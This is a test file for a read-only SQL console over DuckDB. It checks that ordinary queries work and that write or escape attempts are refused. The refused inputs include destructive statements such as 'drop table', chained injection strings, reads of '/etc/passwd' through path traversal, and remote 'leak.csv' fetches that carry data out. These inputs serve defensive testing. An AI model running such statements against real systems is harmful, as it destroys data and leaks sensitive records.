import { beforeAll, describe, expect, it } from 'vitest';
import type { EngineApi } from '../../../src/engine/api.ts';
import { decode, type Row } from '../../../src/engine/duckdb.ts';
import { nodeEngine } from '../../support/engine.ts';
import { filesWith } from './small-files.ts';

let engine: EngineApi;
let before: Row[];

const ask = async (text: string, limit = 100): Promise<Row[]> => decode((await engine.sql(text, limit)).table);
const everything = () => ask("select table_catalog, table_schema, table_name from information_schema.tables where table_schema <> 'information_schema' order by all", 1000);
const refused = (text: string): Promise<unknown> => engine.sql(text, 10).then(() => null, (error: unknown) => error);

beforeAll(async () => {
	engine = nodeEngine();
	await engine.load({ pack: 'advocacy', files: filesWith(), asOf: null });
	before = await everything();
});

describe('the SQL console reads', () => {
	it.each([
		['select count(*)::integer as n from marts.fct_case_lifecycle', [{ n: 3 }]],
		['from marts.mart_ops_kpis select case_type where total_cases = 1', [{ case_type: 'billing_dispute' }]],
		['with a as (select 1 as x) select x + 1 as y from a', [{ y: 2 }]],
		['values (1), (2)', [{ col0: 1 }, { col0: 2 }]],
		['select count(*)::integer as n from fct_case_lifecycle', [{ n: 3 }]],
		['(select 1 as a) union all (select 2)', [{ a: 1 }, { a: 2 }]],
		["select '--no comment; none' as a", [{ a: '--no comment; none' }]],
		['SELECT 1 AS a;', [{ a: 1 }]],
		['select 1 as a;; \n ;', [{ a: 1 }]],
		['select 1 as a -- and that is all', [{ a: 1 }]],
		['select 1 as a; -- and that is all', [{ a: 1 }]],
		['-- first a word\n/* then; another */ select 1 as a', [{ a: 1 }]],
		['select $$a;b$$ as a', [{ a: 'a;b' }]],
		['select 1 as "a;--b"', [{ 'a;--b': 1 }]],
	])('%s', async (text, expected) => {
		expect(await ask(text)).toEqual(expected);
	});

	it.each(['describe marts.fct_case_lifecycle', 'show tables', 'show all tables', 'summarize marts.mart_ops_kpis', 'explain select 1', 'explain analyze select 1', "pivot staging.stg_cases on status in ('open') using count(*)"])('%s', async (text) => {
		expect((await ask(text)).length).toBeGreaterThan(0);
	});

	it('keeps the order that was asked for', async () => {
		expect(await ask('select i::integer as i from range(1000) as r(i) order by i desc', 3)).toEqual([{ i: 999 }, { i: 998 }, { i: 997 }]);
	});

	it('gives at most the limit, and says when there was more', async () => {
		for (const [rows, limit, length, cut] of [[10, 10, 10, false], [11, 10, 10, true], [9, 10, 9, false], [0, 10, 0, false]] as const) {
			const answer = await engine.sql(`select i from range(${String(rows)}) as r(i)`, limit);
			expect([decode(answer.table).length, answer.cut]).toEqual([length, cut]);
		}
	});

	it('cuts what describe shows as well', async () => {
		const answer = await engine.sql('describe marts.fct_case_lifecycle', 5);
		expect([decode(answer.table).length, answer.cut]).toEqual([5, true]);
	});
});

describe('the SQL console refuses, with a reason and a next step, and nothing changes', () => {
	it.each([
		'insert into staging.stg_patients select * from staging.stg_patients',
		'update marts.mart_ops_kpis set total_cases = 0',
		'delete from raw.cases',
		'drop table marts.fct_case_lifecycle',
		'create table t as select 1',
		'create temp table t as select 1',
		'create or replace view v as select 1',
		'alter table raw.cases rename to other',
		'truncate raw.cases',
		'rollback; drop table raw.cases',
		'commit; drop table raw.cases',
		'select 1; drop table raw.cases',
		'select 1; select 2',
		'select 1); drop table raw.cases; (select 2',
		'with a as (select 1) insert into staging.stg_patients select * from staging.stg_patients',
		'with a as (delete from raw.cases returning *) select * from a',
		'explain analyze delete from raw.cases',
		'explain analyze create table t as select 1',
		"explain analyze copy raw.cases to 'import/out.csv'",
		'explain select 1; drop table raw.cases',
		"attach ':memory:' as other",
		'detach advocacy',
		'use memory',
		'begin',
		'rollback',
		'checkpoint',
		"copy raw.cases to 'out.csv'",
		"copy raw.cases to 'import/out.csv'",
		"copy (select 1) to '/tmp/out.csv'",
		"export database 'import/all'",
		"select * from read_csv('http://127.0.0.1:9/leak.csv')",
		"select * from read_csv('https://example.org/leak.csv?phi=jane')",
		"select * from 'http://127.0.0.1:9/leak.csv'",
		"select * from read_text('/etc/passwd')",
		"select * from read_text('import/../../../etc/passwd')",
		"select * from read_blob('package.json')",
		"select * from glob('/*')",
		"select * from read_parquet('http://127.0.0.1:9/x.parquet')",
		'set threads = 2',
		"set custom_extension_repository = 'http://127.0.0.1:9'",
		'set enable_external_access = true',
		'reset lock_configuration',
		'pragma database_list',
		'install json',
		'load json',
		'call pragma_version()',
		'prepare p as delete from raw.cases',
		'vacuum',
		'',
		'  ; -- nothing',
	])('%s', async (text) => {
		const error = await refused(text);
		expect(error).toMatchObject({ name: 'ThroughlineError', code: expect.stringMatching(/^sql\./) as string });
		expect((error as { next: string }).next).not.toBe('');
		expect(await everything()).toEqual(before);
		expect(await ask('select count(*)::integer as n from raw.cases')).toEqual([{ n: 3 }]);
	});

	it("a text that cannot be parsed comes back with DuckDB's own words", async () => {
		expect(await refused('select frm x')).toMatchObject({ code: 'sql.failed', message: expect.stringContaining('frm') as string });
		expect(await refused('select 1 +')).toMatchObject({ code: 'sql.failed', message: expect.stringMatching(/syntax error/i) as string });
	});

	it('a column or table that is not there is named, and those that are near', async () => {
		expect(await refused('select cas_id from marts.fct_case_lifecycle')).toMatchObject({ code: 'sql.failed', message: expect.stringContaining('case_id') as string });
		expect(await refused('from marts.fct_case_lifecycl')).toMatchObject({ code: 'sql.failed', message: expect.stringContaining('fct_case_lifecycle') as string });
	});

	it.each(['select current_date', "select '{}'::json", "select json_extract('{}', '$.a')", "select timezone('UTC', now())"])('%s needs an extension: a clear message, no trap', async (text) => {
		expect(await refused(text)).toMatchObject({ code: 'sql.failed', message: expect.stringMatching(/extension|does not exist|catalog/i) as string });
		expect(await ask('select 42 as a')).toEqual([{ a: 42 }]);
	});
});
